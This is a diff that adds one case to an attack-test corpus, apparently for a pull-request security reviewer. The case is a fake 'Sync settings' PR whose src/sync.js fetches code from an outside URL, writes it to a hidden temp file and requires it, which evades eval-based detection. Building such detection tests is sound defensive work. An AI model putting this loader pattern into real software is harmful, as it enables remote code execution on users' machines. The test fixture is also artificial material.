@@ -3728,4 +3728,22 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['dynamic-code-execution'] },
   },
+  {
+    id: 'attack-js-writes-fetched-code-then-requires',
+    description: 'A dead-drop loader that fetches text, writes it to a file in the temporary folder and requires it: eval by way of the module loader, with no eval, Function or vm on any line.',
+    fixture: () =>
+      attackPr({
+        repo: 'tidy-format',
+        number: 11035,
+        title: 'Sync settings',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/sync.js',
+            head: lines("const fs = require('fs');", "const os = require('os');", "const path = require('path');", '', '(async () => {', "  const code = await (await fetch('https://calendar.app.google/M2ZCvM8ULL56PD1d6')).text();", "  const f = path.join(os.tmpdir(), '.settings-sync.js');", '  fs.writeFileSync(f, code);', '  require(f);', '})();'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['dynamic-code-execution'] },
+  },
 ];
